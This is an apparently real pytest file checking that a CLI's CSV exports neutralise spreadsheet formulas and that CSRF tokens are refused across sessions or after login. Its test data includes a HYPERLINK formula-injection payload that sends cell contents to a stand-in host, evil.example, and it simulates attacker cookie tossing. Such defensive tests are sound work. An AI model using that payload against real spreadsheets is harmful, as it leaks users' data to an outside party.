"""HTTP hygiene (#11 build point 6): every finding of the review, reproduced.

Spreadsheet formulas in the CLI's CSV, a CSRF token that works in another session, security
headers, forwarded addresses from untrusted peers, the Host header reflected, and slow
clients holding the server (real sockets against a real ``headway serve``).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi import FastAPI
from typer.testing import CliRunner

from headway.cli import app as cli_app
from headway.store import Store
from headway.store.api_keys import create_key
from headway.web.csrf import CSRF_COOKIE
from tests.engine.activity_log import load
from tests.web.auth_support import Browser, auth_app, log_in

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
JOURNEY = """\
name: Signup
window: 30d
stages:
  - name: Visit
    when: {type: page_visit}
"""


# -- CSV from the CLI ---------------------------------------------------------------------------
def test_cli_contacts_csv_keeps_formulas_as_text(tmp_path: Path) -> None:
    db = tmp_path / "h.duckdb"
    with Store(db) as store:
        load(store, [(FORMULA, "page_visit", "0s"), ("+420123", "page_visit", "1h")])
    journey = tmp_path / "j.yaml"
    journey.write_text(JOURNEY)
    args = ["--db", str(db), "contacts", str(journey), "--stage", "1", "--format", "csv"]
    result = CliRunner().invoke(cli_app, [*args, "--as-of", "2025-02-01"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(r["contact"] for r in rows) == ["'+420123", "'" + FORMULA]


def test_cli_suppression_export_keeps_formulas_as_text(tmp_path: Path) -> None:
    db = tmp_path / "h.duckdb"
    with Store(db) as store:
        load(store, [("@SUM(1+1)", "email_unsubscribe", "0s", {"email": "e1"})])
    result = CliRunner().invoke(cli_app, ["--db", str(db), "suppression", "export"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["contact"] for r in rows] == ["'@SUM(1+1)"]


# -- CSRF bound to the session ------------------------------------------------------------------
@pytest.fixture
def app(store: Store) -> FastAPI:
    return auth_app(store)


def test_a_csrf_token_from_another_session_is_refused(app: FastAPI, store: Store) -> None:
    _, attacker_key = create_key(store, ["read"])
    _, victim_key = create_key(store, ["read"])
    attacker = Browser(app)
    log_in(attacker, attacker_key)
    token = attacker.get("/test/token").json()["token"]
    victim = Browser(app)
    log_in(victim, victim_key)
    # Cookie tossing: the attacker plants its own CSRF cookie in the victim's browser.
    victim.cookies[CSRF_COOKIE] = attacker.cookies[CSRF_COOKIE]
    assert victim.post("/test/form", data={"csrf_token": token}).status_code == 403
    assert victim.post("/test/form", headers={"X-CSRF-Token": token}).status_code == 403
    assert attacker.post("/test/form", data={"csrf_token": token}).status_code == 200


def test_a_csrf_token_from_before_login_is_refused_after_it(app: FastAPI, store: Store) -> None:
    _, key = create_key(store, ["read"])
    browser = Browser(app)
    before = browser.get("/test/token").json()["token"]
    log_in(browser, key)
    assert browser.post("/test/form", data={"csrf_token": before}).status_code == 403
    after = browser.get("/test/token").json()["token"]
    assert browser.post("/test/form", data={"csrf_token": after}).status_code == 200
    assert json.loads(browser.post("/test/form", data={"csrf_token": after}).text)["changed"]
